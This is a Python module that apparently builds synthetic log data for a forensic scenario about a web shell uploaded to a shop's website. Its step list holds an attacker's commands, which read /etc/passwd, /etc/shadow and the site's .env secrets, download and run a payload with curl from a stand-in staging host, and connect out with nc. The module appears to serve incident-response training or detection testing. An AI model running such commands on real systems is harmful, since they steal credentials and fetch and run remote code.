"""The break-in through the shop's website: scanned on Thursday night, used on Friday morning.

``weblog`` shows the requests, ``auditd`` the commands that the uploaded page ran as www-data.
"""

from __future__ import annotations

from datetime import datetime, timedelta

from samples.log import after, at, dice
from samples.server import STAGE

SHELL_PATH = "/uploads/avatars/8841.php"
UPLOADED = at(4, "09:47:12.512604")
SCAN_START = at(3, "22:41:09")
_STEPS = (  # seconds after the upload, command, whether it succeeds
    (9, "id", True),
    (21, "uname -a", True),
    (37, "cat /etc/passwd", True),
    (58, "ls -la /var/www/shop", True),
    (83, "cat /etc/shadow", False),
    (104, "cat /var/www/shop/.env", True),
    (171, f"curl -s -o /tmp/.x http://{STAGE}/x", True),
    (180, "chmod 755 /tmp/.x", True),
    (196, "/tmp/.x -d", True),  # noqa: S108 - the attacker's place
    (260, f"nc {STAGE} 4444", True),
    (402, "ps aux", True),
)


def shell_steps() -> list[tuple[datetime, str, bool]]:
    """Returns what the attacker ran through the uploaded page: time, command, success."""
    rng = dice("web shell")
    return [
        (after(UPLOADED + timedelta(seconds=seconds), rng, 0, 900), command, worked)
        for seconds, command, worked in _STEPS
    ]
